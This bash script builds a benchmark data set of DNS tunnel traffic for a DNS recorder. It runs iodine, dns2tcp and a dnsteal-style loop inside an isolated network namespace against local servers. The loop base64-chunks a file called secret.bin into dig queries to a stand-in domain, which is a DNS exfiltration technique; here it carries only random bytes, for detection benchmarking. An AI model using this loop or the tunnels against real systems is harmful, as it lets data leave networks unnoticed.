#!/usr/bin/env bash
# Records three real DNS tunnels live with the recorder, one host name each (bench/fleet.py adds
# them to the fleet data sets as extra hosts):
#   tunnel-iodine    iodine 0.7 (NULL records, raw mode off) carrying 600-byte UDP datagrams
#   tunnel-dns2tcp   dns2tcp 0.5 (TXT) carrying 24 KB through a TCP resource
#   tunnel-dnsteal   a dnsteal-style shell loop: one `dig` per 56-character base64 chunk of a file
#
#   sudo bench/tunnels.sh OUT_DIR [BIN_DIR]      (BIN_DIR has `dnsledger`; default target/debug)
#
# Needs root (BPF, network namespaces, tun), iodine, dns2tcp, dnsmasq and dig (Debian packages
# iodine dns2tcp dnsmasq-base dnsutils; bench/run.sh installs them). The clients run in a
# network namespace `dnsl-tun` joined to the host by a veth pair (10.199.0.1 host side,
# 10.199.0.2 inside), so tunnelled packets really cross the tunnel instead of being short-cut
# by the kernel as local traffic; the servers listen on 10.199.0.1:53. Each recorder runs in its
# own UTS namespace so that its host name (stored in the rows and the host= directory) is the
# tunnel's. Everything started is stopped by pid, also on error.
set -euo pipefail
out=${1:?usage: tunnels.sh OUT_DIR [BIN_DIR]}
bin=${2:-target/debug}
secs=${TUNNEL_SECS:-40}
ns=dnsl-tun
mkdir -p "$out"
out=$(cd "$out" && pwd)
work=$(mktemp -d /tmp/dnsl-tunnels.XXXXXX)
pids=()

cleanup() {
  for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done
  for p in "${pids[@]}"; do wait "$p" 2>/dev/null || true; done
  mkdir -p "$out/logs" && cp "$work"/*.log "$out/logs/" 2>/dev/null || true
  ip netns del "$ns" 2>/dev/null || true
  ip link del dnsl-veth0 2>/dev/null || true
  rm -rf "$work"
}
trap cleanup EXIT

for t in iodine iodined dns2tcpc dns2tcpd dnsmasq dig; do
  command -v "$t" >/dev/null || { echo "error: $t not installed" >&2; exit 2; }
done
[[ -x "$bin/dnsledger" ]] || { echo "error: $bin/dnsledger not found" >&2; exit 2; }
py=/usr/bin/python3

ip netns add "$ns"
ip link add dnsl-veth0 type veth peer name dnsl-veth1
ip link set dnsl-veth1 netns "$ns"
ip addr add 10.199.0.1/24 dev dnsl-veth0
ip link set dnsl-veth0 up
ip netns exec "$ns" ip addr add 10.199.0.2/24 dev dnsl-veth1
ip netns exec "$ns" ip link set dnsl-veth1 up
ip netns exec "$ns" ip link set lo up

bg() { "$@" & pids+=($!); }
stop() { kill "$1" 2>/dev/null || true; wait "$1" 2>/dev/null || true; }

# record HOST: starts a recorder whose host name is HOST, writing under $out; sets $rec.
record() {
  local host=$1
  unshare --uts sh -c "hostname $host && exec $bin/dnsledger record --data-dir $work/$host --ports 53" \
    >"$work/$host.log" 2>&1 &
  rec=$!
  pids+=("$rec")
  for _ in $(seq 1 300); do
    grep -q "recording" "$work/$host.log" && return 0
    sleep 0.1
  done
  echo "error: the recorder for $host did not start:" >&2
  cat "$work/$host.log" >&2
  exit 1
}

seal() {
  local host=$1
  kill -TERM "$rec"
  wait "$rec" 2>/dev/null || true
  mkdir -p "$out/segments"
  cp -r "$work/$host/segments/." "$out/segments/"
  echo "tunnels: $host: $(find "$work/$host/segments" -name '*.parquet' | wc -l) segment(s)" >&2
}

# --- iodine: NULL-record tunnel, ping traffic through it.
record tunnel-iodine
bg iodined -f -c -P benchpass -l 10.199.0.1 -p 53 10.53.0.1/27 t.pirate.test >"$work/iodined.log" 2>&1
iodined_pid=${pids[-1]}
sleep 1
# -m: a fixed downstream fragment size (autoprobing waits for timeouts on loopback-fast links).
bg ip netns exec "$ns" iodine -f -r -m 1100 -P benchpass 10.199.0.1 t.pirate.test >"$work/iodine.log" 2>&1
iodine_pid=${pids[-1]}
for _ in $(seq 1 100); do
  ip netns exec "$ns" ip addr show 2>/dev/null | grep -q "10.53.0.2" && break
  sleep 0.2
done
# Traffic through the tunnel: 600-byte UDP datagrams, 4 a second (the server side answers with
# ICMP port unreachable, which comes back through the tunnel too).
ip netns exec "$ns" "$py" -c '
import os, socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(4 * int(sys.argv[1])):
    try:
        s.sendto(os.urandom(600), ("10.53.0.1", 9))
    except OSError:
        pass
    time.sleep(0.25)' "$secs" >"$work/udp.log" 2>&1 || true
stop "$iodine_pid"
stop "$iodined_pid"
seal tunnel-iodine

# --- dns2tcp: TXT tunnel carrying a TCP stream to a local sink.
record tunnel-dns2tcp
cat >"$work/dns2tcpd.conf" <<EOF
listen = 10.199.0.1
port = 53
user = nobody
chroot = /tmp
domain = t.tunnel.test
resources = sink:127.0.0.1:9977
EOF
bg "$py" -c '
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 9977)); s.listen(4)
while True:
    c, _ = s.accept()
    while c.recv(65536): pass
    c.close()'
sink_pid=${pids[-1]}
bg dns2tcpd -F -f "$work/dns2tcpd.conf" >"$work/dns2tcpd.log" 2>&1
d2d_pid=${pids[-1]}
sleep 1
bg ip netns exec "$ns" dns2tcpc -z t.tunnel.test -r sink -l 2222 10.199.0.1 >"$work/dns2tcpc.log" 2>&1
d2c_pid=${pids[-1]}
sleep 2
ip netns exec "$ns" "$py" -c '
import os, socket, time
s = socket.create_connection(("127.0.0.1", 2222), timeout=30)
for _ in range(24):
    s.sendall(os.urandom(1024)); time.sleep(0.5)
time.sleep(3); s.close()' >"$work/push.log" 2>&1 || echo "tunnels: dns2tcp push failed: $(cat "$work/push.log")" >&2
stop "$d2c_pid"
stop "$d2d_pid"
stop "$sink_pid"
seal tunnel-dns2tcp

# --- dnsteal-style: a shell loop of `dig`, one base64 chunk per name, against a resolver that
# answers the domain (dnsmasq, like dnsteal's own listener, answers every name).
record tunnel-dnsteal
bg dnsmasq -k --no-resolv --no-hosts --bind-interfaces --listen-address=10.199.0.1 -p 53 \
  --address=/steal.test/10.199.0.1 --pid-file="$work/dnsmasq.pid" >"$work/dnsmasq.log" 2>&1
dm_pid=${pids[-1]}
sleep 1
head -c 3000 /dev/urandom >"$work/secret.bin"
ip netns exec "$ns" bash -c '
i=0
for chunk in $(base64 -w 56 "$1" | tr "+/=" "-_0"); do
  dig @10.199.0.1 +short +tries=1 +time=2 -q "$chunk.$i.secret-bin.x.steal.test" >/dev/null
  i=$((i+1)); sleep 0.2
done' _ "$work/secret.bin"
stop "$dm_pid"
seal tunnel-dnsteal
echo "tunnels: written to $out/segments" >&2
